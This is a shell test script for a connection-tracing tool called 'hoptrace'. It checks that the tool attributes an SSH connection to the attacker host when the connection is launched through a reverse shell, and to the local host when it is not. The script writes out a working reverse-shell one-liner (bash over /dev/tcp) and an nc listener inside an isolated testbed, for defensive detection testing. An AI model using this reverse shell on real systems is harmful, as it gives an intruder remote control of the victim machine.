#!/bin/sh
# chain_reverse.sh — a reverse shell, the classic foothold (the chain model's
# "an external TCP connection is a source in either direction"):
#   h1 (the attacker) listens: `nc -l 4444`, fed with a command line;
#   h2 (the victim): `bash -c 'bash -i >& /dev/tcp/H1/4444 0>&1'` — an OUTBOUND
#     connection to h1 — whose interactive bash runs the command it reads:
#     `nc -d H3 22`.
# The SYN on h2 to h3:22 comes from h1 through the victim's outbound
# connection: `hoptrace who` on h2 for nc's connection must give exactly one
# chain, origin h1 (h1's collector answers for its end), src h1:4444 (h1's end
# of the first connection), dst h3:22, complete, and the processes in order:
# on h1 the listener and the process writing into it, on h2 bash (`bash -c`
# execs its one command: a single bash) and nc.
# The same shell with no reverse connection (a local bash running `nc -d H3 22`
# from a script) is a local chain: origin h2.
. "${HT_TOP:-$(cd "$(dirname "$0")/../.." && pwd)}/tests/lib/testbed.sh"
. "$TB_LIB/chaintest.sh"
tb_init "$@"
tb_need nc bash
ct_setup

tb_log "reverse shell: h2's bash connects out to h1:4444, runs nc to h3:22 from there"
# the attacker's side keeps its input open after the command, like a person would
# (exec: the subshell that wrote the command becomes the `sleep` holding the pipe)
tb_bg h1 sh -c "(sleep 1; echo 'nc -d $CT_H3 22'; exec sleep 600) | nc -l 4444"
tb_wait_port h1 4444 || tb_fail "h1: nothing listens on 4444"
tb_bg h2 bash -c "bash -i >& /dev/tcp/$CT_H1/4444 0>&1"
ct_wait_new_onward 15 || { tail -n 20 "$TB_LASTLOG"; tb_fail "reverse shell: no connection from h2 to h3:22"; }
p=$CT_P
check_reverse() {
	_lr=$(ct_onward "$p")
	[ -n "$_lr" ] || { echo "pid $p has no connection to $CT_H3:22"; return 1; }
	# shellcheck disable=SC2086
	tb_exec h2 "$TB_HOPTRACE" who $_lr --json >"$TB_T/rev.who.json" || { cat "$TB_T/rev.who.json"; return 1; }
	tb_assert_chain "$TB_T/rev.who.json" --count 1 --origin h1 --src "$CT_H1:4444" \
		--dst "$CT_H3:22" --no-origin h2 --complete \
		--procs "h1:sleep,h1:nc.openbsd,h2:bash,h2:nc.openbsd" --ordered
}
ct_case "reverse shell: who on h2: origin h1 through the outbound connection" "" check_reverse

tb_log "the same commands with no reverse connection: a local chain"
tb_bg h2 bash -c "nc -d $CT_H3 22; true"
ct_wait_new_onward 15 || tb_fail "local: no connection from h2 to h3:22"
p=$CT_P
check_local() {
	_lr=$(ct_onward "$p")
	[ -n "$_lr" ] || { echo "pid $p has no connection to $CT_H3:22"; return 1; }
	# shellcheck disable=SC2086
	tb_exec h2 "$TB_HOPTRACE" who $_lr --json >"$TB_T/loc.who.json" || { cat "$TB_T/loc.who.json"; return 1; }
	tb_assert_chain "$TB_T/loc.who.json" --count 1 --origin h2 --no-origin h1 --dst "$CT_H3:22" \
		--procs "h2:nc.openbsd" --ordered
}
ct_case "no reverse connection: origin h2, nc alone" "" check_local
ct_finish
